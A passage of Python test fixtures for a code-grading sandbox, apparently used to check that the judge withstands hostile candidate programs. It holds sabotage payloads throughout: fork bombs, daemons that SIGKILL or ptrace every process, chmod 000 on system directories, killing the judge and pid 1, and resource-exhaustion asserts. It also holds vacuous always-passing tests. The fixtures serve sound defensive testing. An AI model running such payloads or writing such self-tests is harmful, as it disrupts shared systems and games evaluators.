                     _ct.c_long(512), _ct.c_long(-4)) < 0:
        break
""",
    ),
    (
        "sab_fork_bomb_sleepers",
        "forks detached sleepers until fork fails (fills the candidate uid's NPROC)",
        "for _i in range(512):\n"
        "    try:\n        _pid = _os.fork()\n    except OSError:\n        break\n"
        "    if _pid == 0:\n        _os.setsid()\n        _time.sleep(300)\n        _os._exit(0)\n",
    ),
    (
        "sab_cpu_burners_keep_pipes",
        "setsid + double-fork daemons that burn CPU for 2 minutes and keep the job's "
        "stdout/stderr pipes open",
        SAB_CPU_BURNERS,
    ),
    (
        "sab_fd_chaos",
        "closes every fd above 2 and dups /dev/null over 0, 1 and 2",
        "_null = _os.open('/dev/null', _os.O_RDWR)\n_os.closerange(3, 65536)\n"
        "for _fd in (0, 1, 2):\n    _os.dup2(_os.open('/dev/null', _os.O_RDWR), _fd)\n",
    ),
    (
        "sab_daemon_killer",
        "a detached daemon that SIGKILLs every process it can for 30 s (the next ones')",
        "if _daemonize():\n    _end = _time.time() + 30\n    while _time.time() < _end:\n"
        "        for _p in _pids():\n            try:\n                _os.kill(_p, 9)\n"
        "            except OSError:\n                pass\n        _time.sleep(0.002)\n"
        "    _os._exit(0)\n",
    ),
    (
        "sab_ptrace_everything",
        "a detached daemon that PTRACE_ATTACHes every process (judge, zygote, supervisor, "
        "later candidates) and never lets them go",
        r"""
import ctypes as _ct
if _daemonize():
    _libc = _ct.CDLL(None, use_errno=True)
    _done = set()
    _end = _time.time() + 30
    while _time.time() < _end:
        for _p in _pids():
            if _p not in _done:
                _done.add(_p)
                _libc.ptrace(_ct.c_long(16), _ct.c_long(_p), None, None)  # PTRACE_ATTACH
        _time.sleep(0.005)
    _os._exit(0)
""",
    ),
    (
        "sab_chmod_everything",
        "chmod 000 on /tmp, /dev/shm, the scratch dir, its parent and $HOME, umask 777",
        "for _r in ('/tmp', '/dev/shm', '/var/tmp', '.', '..', _os.path.expanduser('~')):\n"
        "    try:\n        _os.chmod(_r, 0)\n    except OSError:\n        pass\n_os.umask(0o777)\n",
    ),
    (
        "sab_renice_and_oom",
        "renices and sets oom_score_adj 1000 / sched policy of every process it can",
        "for _p in _pids():\n"
        "    try:\n        _os.setpriority(_os.PRIO_PROCESS, _p, 19)\n    except OSError:\n"
        "        pass\n"
        "    try:\n        with open('/proc/%d/oom_score_adj' % _p, 'w') as _fh:\n"
        "            _fh.write('1000')\n    except OSError:\n        pass\n"
        "    try:\n        _os.sched_setaffinity(_p, {0})\n    except OSError:\n        pass\n",
    ),
]

SABOTEURS: list[Judged] = [
    Judged(name, "saboteur", threat, SAB_HEAD + body + WRONG) for name, threat, body in _SABOTEURS
]

# =========================================================================== errored

_ERRORED = [
    (
        "err_syntax_error",
        "a SyntaxError (the program does not load)",
        "\ndef has_close_elements(numbers, threshold)\n    return False\n",
        True,
    ),
    (
        "err_raise_at_import",
        "raises RuntimeError at import",
        "\nraise RuntimeError('boom at import')\n" + WRONG,
        True,
    ),
    (
        "err_base_exception_at_import",
        "raises a bare BaseException at import",
        "\nraise BaseException('not an Exception')\n" + WRONG,
        True,
    ),
    (
        "err_os_exit_1_at_import",
        "os._exit(1) at import",
        "\nimport os\nos._exit(1)\n" + WRONG,
        True,
    ),
    (
        "err_sys_exit_at_import",
        "sys.exit(3) at import",
        "\nimport sys\nsys.exit(3)\n" + WRONG,
        True,
    ),
    (
        "err_missing_entry_point",
        "no has_close_elements at all (no prompt either)",
        "def has_close_element(numbers, threshold):\n    return False\n",
        False,
    ),
    (
        "err_kill_judge_group_at_import",
        "SIGKILLs the judge, its process group, pid 1 and its own group at import",
        "\nimport os\nfor _f in (lambda: os.killpg(os.getpgid(os.getppid()), 9),\n"
        "           lambda: os.kill(os.getppid(), 9), lambda: os.kill(1, 9),\n"
        "           lambda: os.killpg(0, 9)):\n"
        "    try:\n        _f()\n    except OSError:\n        pass\n" + WRONG,
        True,
    ),
    (
        "err_kill_judge_at_call",
        "SIGKILLs its parent and every ancestor when called",
        "\nimport os\n\ndef has_close_elements(numbers, threshold):\n"
        "    for pid in (os.getppid(), 1):\n        try:\n            os.killpg(os.getpgid(pid), 9)\n"
        "        except OSError:\n            pass\n        try:\n            os.kill(pid, 9)\n"
        "        except OSError:\n            pass\n    return False\n",
        True,
    ),
    (
        "err_sigstop_judge_at_call",
        "SIGSTOPs its parent and pid 1 when called",
        "\nimport os, signal\n\ndef has_close_elements(numbers, threshold):\n"
        "    for pid in (os.getppid(), 1):\n        try:\n            os.kill(pid, signal.SIGSTOP)\n"
        "        except OSError:\n            pass\n    return False\n",
        True,
    ),
    (
        "err_memory_at_import",
        "allocates until MemoryError at import",
        "\n_hog = []\nwhile True:\n    _hog.append(bytearray(64 << 20))\n" + WRONG,
        True,
    ),
    (
        "err_abort_at_call",
        "os.abort() (SIGABRT) when called",
        "\nimport os\n\ndef has_close_elements(numbers, threshold):\n    os.abort()\n",
        True,
    ),
    (
        "err_segfault_at_import",
        "a segmentation fault at import (ctypes.string_at(0))",
        "\nimport ctypes\nctypes.string_at(0)\n" + WRONG,
        True,
    ),
    (
        "err_c_stack_overflow_at_import",
        "unbounded recursion with the limit lifted: SIGSEGV",
        "\nimport sys\nsys.setrecursionlimit(10 ** 7)\n\ndef _r(n):\n    return _r(n + 1) + 1\n\n"
        "_r(0)\n" + WRONG,
        True,
    ),
    (
        "err_recursion_at_import",
        "RecursionError at import",
        "\ndef _r():\n    return _r()\n\n_r()\n" + WRONG,
        True,
    ),
    (
        "err_close_all_fds_at_import",
        "closes every fd (0..65535) at import",
        "\nimport os\nos.closerange(0, 65536)\n" + WRONG,
        True,
    ),
    (
        "err_output_flood_at_import",
        "writes 100 MB to stdout and stderr at import",
        "\nimport os\n_b = b'x' * (1 << 20)\nfor _i in range(100):\n    for _fd in (1, 2):\n"
        "        try:\n            os.write(_fd, _b)\n        except OSError:\n            pass\n"
        + WRONG,
        True,
    ),
    (
        "err_prlimit_judge_nofile",
        "lowers the judge's (its parent's) and every process's RLIMIT_NOFILE to 3 while "
        "the tests run",
        "\nimport os, resource\n\ndef has_close_elements(numbers, threshold):\n"
        "    for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "        if pid == os.getpid():\n            continue\n"
        "        try:\n            resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3))\n"
        "        except (OSError, ValueError):\n            pass\n    return False\n",
        True,
    ),
    (
        "err_fsize_zero_judge",
        "sets the judge's and pid 1's RLIMIT_FSIZE to 0 at import",
        "\nimport os, resource\nfor _p in (os.getppid(), 1):\n    try:\n"
        "        resource.prlimit(_p, resource.RLIMIT_FSIZE, (0, 0))\n"
        "    except (OSError, ValueError):\n        pass\n" + WRONG,
        True,
    ),
]

ERRORED: list[Judged] = [
    Judged(name, "errored", threat, body, with_prompt=with_prompt)
    for name, threat, body, with_prompt in _ERRORED
]

ALL: list[Judged] = [*LEARNERS, *SABOTEURS, *ERRORED]

# =========================================================================== probes

#: The correct program, plus ``has_close_elements([], -9.0)``: a fingerprint of what a
#: candidate can see of its world (its limits, processes, IPC objects, keys, files).
PROBE = r"""


import hashlib as _hashlib
import os as _os
import resource as _resource

_CORRECT = has_close_elements


def _count(path):
    try:
        return len(_os.listdir(path))
    except OSError:
        return -1


def _lines(path):
    try:
        with open(path) as fh:
            return max(0, len(fh.read().splitlines()) - 1)
    except OSError:
        return -1


def _writable(d):
    path = _os.path.join(d, ".rb-probe-%d" % _os.getpid())
    try:
        with open(path, "w") as fh:
            fh.write("x")
        _os.unlink(path)
        return 1
    except OSError:
        return 0


def _fingerprint():
    lims = []
    for r in range(16):  # every RLIMIT_* of Linux (RLIMIT_LOCKS = 10 included)
        try:
            lims.append(_resource.getrlimit(r))
        except (ValueError, OSError):
            lims.append(None)
    fields = {
        "procs": len([p for p in _os.listdir("/proc") if p.isdigit()]),
        "shm": _lines("/proc/sysvipc/shm"),
        "sem": _lines("/proc/sysvipc/sem"),
        "msg": _lines("/proc/sysvipc/msg"),
        "mqueue": _count("/dev/mqueue"),
        "keys": _lines("/proc/keys") + 1,
        "tmp": _count("/tmp"),
        "var_tmp": _count("/var/tmp"),
        "dev_shm": _count("/dev/shm"),
        "cwd": _count("."),
        "home": _count(_os.path.expanduser("~")),
        "limits": _hashlib.sha1(repr(lims).encode()).hexdigest()[:10],
        "nice": _os.getpriority(_os.PRIO_PROCESS, 0),
        "tmp_writable": _writable("/tmp"),
        "dev_shm_writable": _writable("/dev/shm"),
    }
    return " ".join("%s=%s" % kv for kv in fields.items())


def has_close_elements(numbers, threshold):
    if not numbers and threshold == -9.0:
        return _fingerprint()
    return _CORRECT(numbers, threshold)
"""

PROBE_TEST = "assert has_close_elements([], -9.0) == 0"

# =========================================================================== self-tests

_F = "has_close_elements([1.0, 2.0], 0.5)"

#: Asserts whose evaluation in the judge is unbounded (time or memory).
BOMBS: list[SelfTestCase] = [
    SelfTestCase(
        "bomb_pow", "pow(3, 10**8): minutes of big-int arithmetic", f"assert {_F} == pow(3, 10**8)"
    ),
    SelfTestCase("bomb_bytes", "bytes(10**10): 10 GB", f"assert {_F} == bytes(10**10)"),
    SelfTestCase(
        "bomb_fstring_width", "a 10**8-wide f-string", f"assert {_F} == f'{{0:100000000}}'"
    ),
    SelfTestCase("bomb_power_tower", "10**10**8", f"assert {_F} == 10**10**8"),
    SelfTestCase("bomb_str_repeat", "'a' * 10**10", f"assert {_F} == 'a' * 10**10"),
    SelfTestCase(
        "bomb_factorial", "math.factorial(10**7)", f"assert {_F} == math.factorial(10**7)"
    ),
    SelfTestCase("bomb_list_repeat", "[0] * 10**10", f"assert {_F} == [0] * 10**10"),
    SelfTestCase("bomb_range_sum", "sum(range(10**13))", f"assert {_F} == sum(range(10**13))"),
    SelfTestCase(
        "bomb_nested_comprehension",
        "a 10**5 x 10**5 comprehension",
        f"assert {_F} == len([x for x in range(10**5) for y in range(10**5)])",
    ),
    SelfTestCase(
        "bomb_comb", "math.comb(10**7, 5 * 10**6)", f"assert {_F} == math.comb(10**7, 5 * 10**6)"
    ),
    SelfTestCase("bomb_shift", "1 << 10**10", f"assert {_F} == (1 << 10**10)"),
    SelfTestCase(
        "bomb_str_of_big_int",
        "len(str(7**10**7)): a huge power, then quadratic int to str",
        f"assert {_F} == len(str(7**10**7))",
    ),
]

#: Asserts that cannot fail, whatever the function returns.
VACUOUS: list[SelfTestCase] = [
    SelfTestCase("vac_or_true", "... or True", f"assert {_F} == 2 or True"),
    SelfTestCase("vac_or_one", "... or 1", f"assert {_F} == True or 1"),
    SelfTestCase("vac_constant_eq", "a comparison of constants", "assert 1 == 1"),
    SelfTestCase("vac_constant_gt", "a comparison of constants", "assert 2 > 1"),
    SelfTestCase("vac_true", "assert True", "assert True"),
    SelfTestCase("vac_not_false", "assert not False", "assert not False"),
    SelfTestCase("vac_tuple", "a non-empty tuple is always truthy", f"assert ({_F}, 2)"),
    SelfTestCase("vac_list", "a non-empty list display", f"assert [{_F}]"),
    SelfTestCase("vac_set", "a non-empty set display", f"assert {{{_F}}}"),
    SelfTestCase("vac_self_eq", "f(x) == f(x)", f"assert {_F} == {_F}"),
    SelfTestCase("vac_str", "a non-empty string", "assert 'x'"),
]

#: A normal self-test the correct program passes (it must still run).
CONTROL_TEST = "assert has_close_elements([1.0, 2.0], 0.5) == False"
